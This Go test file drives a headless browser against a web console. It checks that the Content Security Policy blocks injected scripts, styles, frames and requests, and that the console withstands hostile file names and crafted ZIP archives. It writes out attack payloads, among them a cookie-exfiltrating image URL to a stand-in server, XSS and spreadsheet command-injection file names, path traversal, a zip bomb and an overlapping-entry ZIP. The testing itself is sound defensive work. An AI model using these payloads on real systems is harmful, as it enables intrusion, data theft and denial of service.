package app_test

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// intruders are what a fault of the console would let into its page, by the directive of its
// policy that refuses each. Those that call elsewhere call {out}.
var intruders = map[string]string{
	"script-src-elem": `add("script", (e) => { e.textContent = "window.owned = 1"; }); add("script", (e) => { e.src = "{out}/x.js"; }); add("script", (e) => { e.src = "data:text/javascript,window.owned = 2"; })`,
	"script-src-attr": `add("img", (e) => { e.setAttribute("onerror", "window.owned = 3"); e.src = "data:,"; }); add("a", (e) => { e.setAttribute("onclick", "window.owned = 4"); }).click()`,
	"style-src-elem":  `add("style", (e) => { e.textContent = "* { display: none }"; }); add("link", (e) => { e.rel = "stylesheet"; e.href = "{out}/x.css"; })`,
	"style-src-attr":  `add("p", (e) => { e.setAttribute("style", "position: fixed; inset: 0"); })`,
	"img-src":         `add("img", (e) => { e.src = "{out}/x.png?" + document.cookie; })`,
	"connect-src":     `fetch("{out}/x").catch(() => {}); navigator.sendBeacon("{out}/b", "x"); try { new WebSocket("{out}".replace("http", "ws")); } catch { }`,
	"frame-src":       `add("iframe", (e) => { e.src = "{out}/x.html"; })`,
	"object-src":      `add("object", (e) => { e.data = "{out}/x.svg"; })`,
	"form-action":     `add("form", (e) => { e.action = "{out}/x"; e.method = "POST"; }).submit()`,
	"base-uri":        `add("base", (e) => { e.href = "{out}/"; })`,
	"worker-src":      `try { new Worker(URL.createObjectURL(new Blob(["1"]))); } catch { }`,
	"font-src":        `new FontFace("x", "url({out}/x.woff)").load().catch(() => {})`,
	"media-src":       `add("video", (e) => { e.src = "{out}/x.mp4"; })`,
}

// TestHostilePagesAndFilesInTheBrowser puts into the console's page what attackers would, a
// frame around it, and files that are made to fill it.
func TestHostilePagesAndFilesInTheBrowser(t *testing.T) {
	t.Parallel()
	ctx := openBrowser(t, true, "Content Security Policy", "frame-ancestors")
	url := standIn(t, newLikeDocument(t).ServeHTTP)
	var calls atomic.Int64
	out := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/frame" {
			if r.URL.Path != "/favicon.ico" {
				calls.Add(1)
			}
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<p>Win a prize</p><iframe src="%s/" style="opacity: 0" onload="window.tried = 1"></iframe>`, url)
	}))
	t.Cleanup(out.Close)

	inPage(t, ctx, chromedp.Navigate(url+"/"), until(`document.querySelector(".drop")`), script(`window.refused = new Set();
		document.addEventListener("securitypolicyviolation", (e) => { window.refused.add(e.effectiveDirective); });
		window.add = (name, set) => { const e = document.createElement(name); set(e); document.body.append(e); return e; }`))
	for directive, code := range intruders {
		t.Run(directive, func(t *testing.T) {
			inPage(t, ctx, script(strings.ReplaceAll(code, "{out}", out.URL)), until(fmt.Sprintf(`window.refused.has(%q)`, directive)))
		})
	}
	holds(t, ctx, "nothing foreign runs", `!window.owned && document.baseURI.startsWith(location.origin) && getComputedStyle(document.body).display !== "none" && location.origin === `+fmt.Sprintf("%q", url))
	if n := calls.Load(); n > 0 {
		t.Errorf("the page calls another service %d times", n)
	}

	inPage(t, ctx, chromedp.Navigate(out.URL+"/frame"), until(`window.tried`))
	tree, err := chromedp.Call(ctx, page.GetFrameTree, struct{}{})
	if err != nil {
		t.Fatal(err)
	}
	if len(tree.FrameTree.ChildFrames) != 1 || !strings.HasPrefix(tree.FrameTree.ChildFrames[0].Frame.URL, "chrome-error:") {
		t.Errorf("another page frames the console: %+v", tree.FrameTree.ChildFrames)
	}

	inPage(t, ctx, chromedp.Navigate(url+"/#/new"), until(`document.querySelector("#make")`), script(`{
		const names = ["<img src=x onerror=document.title='owned'>", "\u202egpj.exe", "\u200f\u05d0\u05d1", "👩‍👩‍👧", "x".repeat(4000), "a\u0000b", "a/../../etc/passwd", "=cmd|' /C calc'!A0"], d = new DataTransfer();
		for (let i = 0; i < 5000; i++) d.items.add(new File(["x"], names[i % names.length] + i + ".txt"));
		document.querySelector("main").dispatchEvent(new DragEvent("drop", { dataTransfer: d, bubbles: true, cancelable: true }));
	}`), until(`document.querySelector(".callout summary")?.textContent.startsWith("5,000 files")`), script(`document.querySelector(".callout details, details.callout").open = true`))
	holds(t, ctx, "a part of the names is listed", `document.querySelectorAll(".callout li").length <= 101 && document.title !== "owned" && !document.querySelector("img[src=x]")`)
	fits(t, ctx, "5,000 names")

	dir := t.TempDir()
	for name, content := range map[string][]byte{"many.zip": manyEntries(t, 10_000), "bomb.zip": bomb(t), "over.zip": overlapping(t)} {
		if err := os.WriteFile(filepath.Join(dir, name), content, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	inPage(t, ctx, press(".callout button"), until(`!document.querySelector(".callout summary")`))
	dropFiles(t, ctx, filepath.Join(dir, "bomb.zip"), filepath.Join(dir, "over.zip"))
	inPage(t, ctx, until(`document.querySelector(".callout summary")?.textContent.startsWith("21 files")`))
	holds(t, ctx, "nothing of them is taken", `document.querySelectorAll(".photo").length === 0`)
	dropFiles(t, ctx, filepath.Join(dir, "many.zip"))
	inPage(t, ctx, until(`document.querySelector(".callout summary")?.textContent.startsWith("9,021 files") && document.querySelectorAll(".photo").length === 1000`))
	fits(t, ctx, "a thousand photos")
}

// manyEntries returns a ZIP of n files that are named as photos, no two alike.
func manyEntries(t *testing.T, n int) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := range n {
		w, err := z.CreateHeader(&zip.FileHeader{Name: fmt.Sprintf("a/../b%d.jpg", i), Method: zip.Store})
		if err == nil {
			_, err = fmt.Fprintf(w, "\xff\xd8\xff%d", i)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// bomb returns a ZIP of 20 files that grow a thousandfold.
func bomb(t *testing.T) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := range 20 {
		w, err := z.Create(fmt.Sprintf("b%d.jpg", i))
		if err == nil {
			_, err = io.CopyN(w, zeros{}, 4<<20)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }

// overlapping returns a ZIP whose list names one file's bytes fifty times.
func overlapping(t *testing.T) []byte {
	t.Helper()
	const times = 50
	b := manyEntries(t, 1)
	end := b[len(b)-22:]
	size, start := binary.LittleEndian.Uint32(end[12:]), binary.LittleEndian.Uint32(end[16:])
	entry := bytes.Clone(b[start : start+size])
	binary.LittleEndian.PutUint32(entry[20:], start) // it says to hold all that lies before the list
	binary.LittleEndian.PutUint32(entry[24:], start)
	out := append(bytes.Clone(b[:start]), bytes.Repeat(entry, times)...)
	tail := bytes.Clone(end)
	binary.LittleEndian.PutUint16(tail[8:], times)
	binary.LittleEndian.PutUint16(tail[10:], times)
	binary.LittleEndian.PutUint32(tail[12:], size*times)
	return append(out, tail...)
}
